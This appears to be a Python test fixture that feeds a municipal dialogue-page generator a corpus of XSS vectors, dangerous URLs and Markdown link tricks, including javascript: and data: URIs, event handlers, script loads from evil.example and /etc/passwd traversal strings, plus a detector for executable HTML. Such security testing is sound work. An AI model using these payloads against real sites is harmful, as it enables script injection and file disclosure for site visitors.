"""A hostile corpus: XSS vectors that staff (or an attacker with commit rights) could put in a
dialogue file. Each vector is fed through the front matter and through the body.

Three kinds:

- ``html``: raw HTML (or something a browser treats as HTML); goes into a text field
  (title, summary, area, a location …) and onto its own line in the body.
- ``url``: a dangerous link target; goes into a URL field (``participation[].url``,
  ``documents[].url``, ``feedback.report``) and into a Markdown link in the body (inline
  link, image, reference definition, link with a title: the form rotates).
- ``markdown``: a Markdown construct that makes a dangerous link; goes into a text field
  (staff-written values are inserted into generated Markdown pages) and into the body.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from html.parser import HTMLParser

from generator.load.safe_yaml import parse


@dataclass(frozen=True)
class Vector:
    id: str
    kind: str  # html | url | markdown
    payload: str


_JS = "alert(1)"

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p title=\"x\" onmouseenter=\"alert(1)\">x</p>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss onpointerover=alert(1)>x</xss>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "< script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
]

URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JavaScript:alert(1)",
    "javascript:alert%281%29",
    "javascript://%0aalert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106;avascript:alert(1)",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)",
    "java&#09;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&#13;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "&amp;#106;avascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "vbs&#99;ript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "&#100;ata:text/html,x",
    "file:///etc/passwd",
    "FILE:///C:/Windows/win.ini",
    "/etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "\\\\evil.example\\share\\x.pdf",
    "C:\\Windows\\win.ini",
]

MARKDOWN = [
    "[klicka](javascript:alert(1))",
    "[klicka](JaVaScRiPt:alert(1))",
    "[klicka](<javascript:alert(1)>)",
    "[klicka]( javascript:alert(1) )",
    "[klicka](javascript:alert(1) \"titel\")",
    "[klicka](&#106;avascript:alert(1))",
    "[klicka](java&#x09;script:alert(1))",
    "[klicka](vbscript:msgbox(1))",
    "[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![bild](javascript:alert(1))",
    "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![bild](https://ok.example/a.png)](javascript:alert(1))",
    "[klicka][ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    "[klicka][r]\n\n   [r]: vbscript:msgbox(1) \"titel\"",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,x>",
    "*[x]: <img src=x onerror=alert(1)>",
    "[klicka](file:///etc/passwd)",
    "[lösenord](../../../../etc/passwd)",
    "[länk](https://www.kungsbacka.se){: onclick=\"alert(1)\" }",
    "## Rubrik {: onmouseover=alert(1) }",
    "Text\n{: .x onfocus=\"alert(1)\" tabindex=1 }",
    "Text { onclick=alert(1) }",  # attr_list reads it without the colon too
]

# Harmless by construction (the attack text ends up as text or inside a quoted attribute):
# validation need not flag them, but the renderer must keep them harmless.
HARMLESS = [
    "![bild](x \"onerror=alert(1)\")",
    "[a](https://ok.example \"x\" onclick=\"alert(1)\")",
    "[a](https://ok.example\"onmouseover=\"alert(1))",
    "[a](https://ok.example/\" onmouseover=\"alert(1))",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<img src=x onerror=alert(1)>\n```",
    "Texten 3 < 4 och a<b>c är inte HTML i sig.",
]

VECTORS: list[Vector] = (
    [Vector(f"html-{i:02d}", "html", p) for i, p in enumerate(HTML)]
    + [Vector(f"url-{i:02d}", "url", p) for i, p in enumerate(URLS)]
    + [Vector(f"md-{i:02d}", "markdown", p) for i, p in enumerate(MARKDOWN)]
)

# Front-matter text fields that end up in pages (and in attributes: title, location).
TEXT_FIELDS = [
    ("title",),
    ("summary",),
    ("area",),
    ("participation", 1, "location"),
    ("participation", 0, "title"),
    ("documents", 0, "title"),
    ("purpose",),
    ("influence", "what"),
]
URL_FIELDS = [
    ("participation", 0, "url"),
    ("documents", 0, "url"),
    ("feedback", "report"),
]
# How a dangerous URL is written in the body (rotates over the url vectors).
BODY_LINK_FORMS = [
    "Läs [mer här]({url}) om saken.",
    "![Karta]({url})",
    "Se [handlingen][doc].\n\n[doc]: {url}",
    "[Anmälan]({url} \"Anmäl dig\")",
    "Mer: <{url}>",
]


# A valid dialogue (Kungsbacka policy, valid on 2026-06-01) that the tests mutate.
VALID_DIALOGUE = """\
---
title: Framtidens Kolla torg
summary: >-
  Vi vill veta hur du vill använda torget i Kolla.
topics: [stadsutveckling, trafik]
area: Kolla
owner:
  board: Byggnadsnämnden
  department: Förvaltningen för Samhällsbyggnad
initiated_by: department
political: false
responsible:
  name: Anna Andersson
  role: Projektledare
  email: anna.andersson@kungsbacka.se
  phone: 0300-83 40 00
purpose: Ta reda på hur invånarna vill använda torget.
goal: Ett underlag till gestaltningsprogrammet för Kolla torg.
aims: [needs, ideas]
ladder: consultation
stage: planning
influence:
  what: Hur torget ska möbleras och vilka aktiviteter som ska få plats.
  fixed: Torgets storlek och budgetramen är redan beslutade.
  decision:
    body: Byggnadsnämnden
    date: 2026-09-15
period:
  start: 2026-03-01
  end: 2026-04-15
budget_year: 2026
participation:
  - method: survey
    channel: digital
    title: Webbenkät om torget
    url: https://www.kungsbacka.se/kolla-enkat
    until: 2026-04-15
  - method: open-house
    channel: physical
    title: Öppet hus i Kollahallen
    location: Kollahallen, Kungsbacka
    start: 2026-03-12T17:00
    end: 2026-03-12T19:00
target_groups:
  - group: Boende i Kolla
    reach: [Webbenkät om torget, Öppet hus i Kollahallen]
  - group: Barn och unga
    reach: [Öppet hus i Kollahallen, Besök på Kollaskolans fritids]
special_consideration:
  groups: [Barn och unga]
  motivation: Torget är en viktig mötesplats för unga efter skoltid.
resources:
  staff_hours: 120
  budget_sek: 40000
updates:
  - date: 2026-03-20
    text: Hittills har 340 personer svarat på enkäten.
feedback:
  date: 2026-05-20
  heard: Många vill ha fler sittplatser och mer grönska.
  result: Förslaget får fler sittplatser och en ny trädallé.
  next_steps: Gestaltningsprogrammet beslutas i september.
  impact: Lekplatsen flyttas närmare skolan efter synpunkter från barn.
  participants: 412
  report: https://www.kungsbacka.se/kolla-rapport.pdf
documents:
  - title: Samrådshandling
    url: https://www.kungsbacka.se/samrad.pdf
---

Kolla torg ska byggas om. Läs mer i [samrådshandlingen](https://www.kungsbacka.se/samrad.pdf).
"""


# --- an independent check of rendered HTML ------------------------------------------------

DANGEROUS = re.compile(r"^(?:javascript|vbscript|livescript|data|file):", re.IGNORECASE)
INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202f\ufeff]")
EXECUTABLE_TAGS = {
    "script", "style", "iframe", "object", "embed", "frame", "frameset", "base", "link", "meta",
    "form", "template", "noscript", "applet",
}  # fmt: skip


class _Executable(HTMLParser):
    """An independent check: which tags, attributes and URLs in this HTML could run code."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in EXECUTABLE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{name}=")
            css = value or ""
            if name == "style" and re.search(r"expression|script:|url\(|@import", css, re.I):
                self.found.append(f"style={value!r}")
            if value and name in {"href", "src", "action", "formaction", "xlink:href", "srcset"}:
                decoded = INVISIBLE.sub("", value)  # the parser has decoded entities once
                if DANGEROUS.match(decoded):
                    self.found.append(f"{name}={value!r}")

    handle_startendtag = handle_starttag


def executable(html_text: str) -> list[str]:
    parser = _Executable()
    parser.feed(html_text)
    parser.close()
    return parser.found





def sample_data() -> tuple[dict, str]:
    _, fm, body = VALID_DIALOGUE.split("---\n", 2)
    return parse(fm).data, body  # type: ignore[return-value]
